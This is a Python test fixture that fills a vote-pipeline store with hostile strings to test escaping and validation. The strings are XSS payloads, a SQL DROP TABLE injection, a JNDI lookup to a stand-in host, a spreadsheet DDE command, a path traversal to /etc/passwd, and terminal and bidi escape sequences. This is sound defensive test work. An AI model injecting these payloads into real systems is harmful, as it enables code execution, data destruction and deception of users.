"""Hostile strings, and a store that holds all of them.

They are its models, providers, voters, languages, categories, networks, reasons, authors, headers and file names.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import sqlalchemy as sa

from pipeline import jobs
from pipeline import settings as configuration
from pipeline.detectors import VOTER
from pipeline.open_store import open_store
from pipeline.scoring.signals import AlertSignal
from pipeline.settings import Settings
from pipeline.store import Store
from pipeline.store.alerting import alert_lifecycle, operator_tokens
from pipeline.store.boards import exclusion_list
from pipeline.store.db import schema
from pipeline.store.votes import registry_events
from pipeline.stream.source import FileSource
from pipeline.stream.worker import Worker

# Names that the decoder accepts: every character shows, and the name must be shown as it is.
NAMES = (
    "alder [/q4]", "qwen [int4]", "qwen [int8]", "[link=https://evil.example]x[/link]", "[conceal]x[/conceal]", "[/]",
    "[bold red]wrong[/]", ":smile:", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "javascript:alert(1)",
    "https://evil.example/x?a=b&c=d", "www.evil.example", "@everyone", "a|b", "`code` **bold** _i_ [x](http://y)",
    "%s %d {0} {x} %(y)s", "${jndi:ldap://evil}", "'; DROP TABLE vote; --", "../../etc/passwd", "a,b;\"c\"",
    "\\x1b[31m", "--help", "{{ 7*7 }}{% raw %}", "&lt;b&gt;&amp;", "模型-7 🙂 é", "None", "x" * 200,
)  # fmt: skip
# Text that the decoder rejects, and that reaches us by other ways: words of a command, file names, headers, reasons.
HIDDEN = (
    "\x1b[32mverified\x1b[0m", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "a\x9b31mb", "a\rb", "a\nverified: b",
    "a\tb", "a\x07\x08b", "a\x7fb", "a\u202eb\u202c", "a\u2066b\u2069", "a\u200b\u200db", "\ufeffa", "a\u2028b",
    "a\U000e0041b",
)  # fmt: skip
WORDS = NAMES + HIDDEN
OPTIONS = Settings(anchor="", voter_key="5c" * 32, auto_voter=False)
SETTINGS = {"INTEGRITY_VOTER_KEY": "5c" * 32, "INTEGRITY_ANCHOR": "", "COLUMNS": "500"}
START = datetime(2026, 3, 1, tzinfo=UTC)
FILE = " [bold] \x1b[31m \u202e.jsonl"


def vote(n: int, a: str, b: str, winner: str, name: str) -> dict[str, Any]:
    """A vote in which every text is hostile."""
    return {
        "schema": 1, "vote_id": f"{n} {name}"[:200], "voter_id": f"{name[:190]} {n % 4}",
        "cast_at": (START + timedelta(minutes=n)).isoformat(), "model_a": a, "model_b": b, "winner": winner,
        "language": name, "category": name, "network": name, "prompt_hash": name,
        "categories": [name, f"{name[:190]} 2"], "session": f"{name[:190]} {n % 3}", "turn": 1 + n % 3,
    }  # fmt: skip


def votes(count: int, start: int = 0) -> list[dict[str, Any]]:
    """Votes around the ring of all names: each wins, loses and ties against its neighbour."""
    found = []
    for n in range(start, start + count):
        place = n % len(NAMES)
        a, b = NAMES[place], NAMES[(place + 1) % len(NAMES)]
        winner = ("model_a", "model_b", "tie", "model_a")[n // len(NAMES) % 4]
        found.append(vote(n, a, b, winner, NAMES[(place * 7 + n // len(NAMES)) % len(NAMES)]))
    return found


def bad_records() -> list[dict[str, Any]]:
    """Records that are rejected: hidden characters in a name, or a hostile outcome or time."""
    fine = vote(0, "a", "b", "tie", "x")
    return [
        *({**fine, "vote_id": f"h{n}", "model_a": text} for n, text in enumerate(HIDDEN)),
        *({**fine, "vote_id": f"w{n}", "winner": text} for n, text in enumerate(NAMES)),
        *({**fine, "vote_id": f"t{n}", "cast_at": text} for n, text in enumerate(NAMES)),
    ]


def registry(folder: Path) -> Path:
    """A registry in which every model has a provider of the same name, and every free text is hostile."""
    lines: list[dict[str, Any]] = []
    for n, name in enumerate(NAMES):
        event = {"schema": 1, "at": (START + timedelta(hours=n)).isoformat()}
        # A private model that is not released is on no board; those of n % 4 == 0 are released.
        kind = {"visibility": "public" if n % 4 else "private", "license": "open", "family": name}
        lines.append({**event, "event_id": f"s {name}"[:200], "type": "model.submitted", "model": name,
                      "provider": name, **kind})  # fmt: skip
        more: dict[str, Any] = {
            0: {"type": "model.released", "model": name},
            1: {"type": "model.deprecated", "model": name, "reason": name, "notice_url": name},
            2: {"type": "benchmark.claim", "model": name, "benchmark": name, "score": 0.9, "source": name, "n": 100},
            3: {
                "type": "benchmark.result",
                "model": name,
                "benchmark": name,
                "score": 0.1,
                "n": 100,
                "evaluator": name,
            },
        }[n % 4]
        lines.append({**event, "event_id": f"m {name}"[:200], **more})
        if n % 4 == 2:  # the claim does not reproduce
            lines.append({**event, "event_id": f"r {name}"[:200], "type": "benchmark.result", "model": name,
                          "benchmark": name, "score": 0.1, "n": 100, "evaluator": name})  # fmt: skip
    lines.append({"schema": 1, "event_id": "contradiction", "at": START.isoformat(), "type": "model.submitted",
                  "model": NAMES[0], "provider": NAMES[1], "visibility": "public", "license": "open"})  # fmt: skip
    file = folder / "registry.jsonl"
    file.write_text("".join(json.dumps(one) + "\n" for one in lines))
    return file


def alerts() -> list[AlertSignal]:
    """Alerts about every name as a model, a provider and a network."""
    at = int((START + timedelta(hours=1)).timestamp() * 1e6)
    return [
        AlertSignal(
            "vote_burst", kind, name, name, "warning", 300.0, 1, 0, n, at + n,
            {"window": [at, at + 300_000_000], "what": name, "network": name},
        )
        for kind in ("model", "provider", "network")
        for n, name in enumerate(NAMES)
    ]  # fmt: skip


def made(url: str, folder: Path) -> Store:
    """The store: two snapshots, a registry, alerts, exclusions, tokens, rejects from a file with a hostile name."""
    store = open_store(url, voter_key=OPTIONS.key)
    registry_events.load_file(store, registry(folder))
    count = 4 * len(NAMES)
    with configuration.override(OPTIONS):
        for number, records in enumerate((votes(count), [*bad_records(), *votes(count, count)])):
            file = folder / f"{number}{FILE}"
            file.write_text("".join(json.dumps(record) + "\n" for record in records))
            Worker(FileSource(file), store, OPTIONS, VOTER, "hostile").run(until_end=True)
            jobs.publish(url, jobs.rate(url, jobs.seal(url)))
            if not number:
                _decide(store)
    return store


def _decide(store: Store) -> None:
    at = int((START + timedelta(days=2)).timestamp() * 1e6)
    with store.write() as connection:
        ids = alert_lifecycle.open_alerts(connection, alerts(), {}, at)
        for n, text in enumerate(NAMES):
            exclusion_list.add_entry(connection, "exclude", "vote", f"{n} {text}", text, text, at, ids[0])
        for n, text in enumerate(WORDS):
            # As a release without a check of authors and reasons has stored them.
            entry = {"alert_id": ids[n % len(ids)], "at": at, "action": "ack", "name": text, "reason": text}
            connection.execute(schema.alert_event.insert(), entry)
        for name in NAMES:
            operator_tokens.create(connection, name, ["alerts"], name, name, at, 2**61)
        # As a header of a publisher says where a record came from.
        rows = connection.execute(sa.select(schema.reject.c.partition_no, schema.reject.c.offset)).all()
        for n, row in enumerate(rows):
            where = (schema.reject.c.partition_no == row.partition_no, schema.reject.c.offset == row.offset)
            connection.execute(sa.update(schema.reject).where(*where).values(origin=WORDS[n % len(WORDS)]))
